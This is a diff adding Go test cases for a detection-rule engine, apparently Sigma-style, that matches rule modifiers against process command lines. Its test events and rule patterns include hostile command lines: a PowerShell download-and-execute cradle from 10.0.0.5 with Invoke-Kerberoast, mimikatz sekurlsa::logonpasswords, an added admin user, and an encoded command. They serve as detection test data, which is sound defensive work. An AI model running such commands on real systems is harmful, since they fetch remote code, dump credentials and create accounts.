@@ -168,6 +168,30 @@ func TestModifiers(t *testing.T) {
 			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1'); Invoke-Kerberoast"`}), false},
 		{"segments in a long value", "s:\n    CommandLine|contains: 'net*download'\ncondition: s",
 			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1')"`}), true},
+		// Selections a guard finds by a substring of the value's
+		// lower-case form (guardLiteral), matched both ways.
+		{"guard, contains all", "s:\n    CommandLine|contains|all: ['sekurlsa::', 'logonpasswords']\ncondition: s",
+			ev(parse.Event{"process.command_line": "mimikatz.exe SEKURLSA::LogonPasswords exit"}), true},
+		{"guard, contains all, one missing", "s:\n    CommandLine|contains|all: ['sekurlsa::', 'logonpasswords']\ncondition: s",
+			ev(parse.Event{"process.command_line": "mimikatz.exe sekurlsa::tickets exit"}), false},
+		{"guard, cased contains", "s:\n    CommandLine|contains|cased: 'Invoke-'\ncondition: s",
+			ev(parse.Event{"process.command_line": "powershell Invoke-Expression"}), true},
+		{"guard, cased contains, other case", "s:\n    CommandLine|contains|cased: 'Invoke-'\ncondition: s",
+			ev(parse.Event{"process.command_line": "powershell INVOKE-Expression"}), false},
+		{"guard, startswith", "s:\n    Image|startswith: 'C:\\Windows\\Temp\\'\ncondition: s",
+			ev(parse.Event{"process.name": `c:\windows\TEMP\x.exe`}), true},
+		{"guard, endswith not a file name", "s:\n    Image|endswith: '\\AppData\\Local\\Temp\\x.exe'\ncondition: s",
+			ev(parse.Event{"process.name": `C:\Users\a\appdata\local\temp\X.EXE`}), true},
+		{"guard, glob", "s:\n    CommandLine: '*net?user *'\ncondition: s",
+			ev(parse.Event{"process.command_line": "NET USER admin /add"}), true},
+		{"guard, glob, other", "s:\n    CommandLine: '*net?user *'\ncondition: s",
+			ev(parse.Event{"process.command_line": "net localgroup admins"}), false},
+		{"guard, windash", "s:\n    CommandLine|windash|contains: '-encodedcommand'\ncondition: s",
+			ev(parse.Event{"process.command_line": "powershell /EncodedCommand SQBFAFgA"}), true},
+		{"guard, short literal left to the rule", "s:\n    CommandLine|contains: '/c'\ncondition: s",
+			ev(parse.Event{"process.command_line": "cmd.exe /C whoami"}), true},
+		{"guard, not a string", "s:\n    dst_port|contains: '44'\ncondition: s",
+			ev(parse.Event{"destination.port": int64(4443)}), true},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
